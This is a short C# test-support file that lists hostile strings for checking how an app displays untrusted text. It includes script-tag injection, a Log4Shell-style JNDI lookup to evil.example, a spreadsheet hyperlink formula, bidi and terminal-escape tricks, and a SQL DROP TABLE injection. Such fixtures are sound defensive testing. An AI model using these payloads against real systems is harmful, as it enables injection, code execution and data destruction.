namespace PolyCopy.Tests.Support;

/// <summary>What others may write into titles, outcomes, names and errors. Every medium that shows foreign text is held against all of it.</summary>
public static class Hostile
{
    public static TheoryData<string> Texts { get; } =
    [
        "<script>alert(1)</script>",
        "<b>bold</b><a href=\"https://evil.example\">free money</a>",
        "&lt;b&gt; &amp; &#60;i&#62;",
        "</b></i></pre></code>",
        "\"onmouseover=\"alert(1)",
        "line one\r\nERR forged line\u2028and\u2029more\u0085end",
        "\u202Eevil\u202C \u2066isolated\u2069 \u200Fmark",
        "nul\0bell\u0007escape\u001B[31mred\u001B[0m",
        "zero\u200Bwidth\u200D joiners\uFEFF",
        "see https://evil.example/x and www.evil.example or evil.example",
        "write @admin, #tag, $BTC, /start and mail a@evil.example",
        "=HYPERLINK(\"https://evil.example\")",
        "{0} {1:N2} %s ${jndi:ldap://evil.example}",
        "lone \uD83D surrogate",
        new string('x', 5_000),
        "'; DROP TABLE users; --",
    ];
}
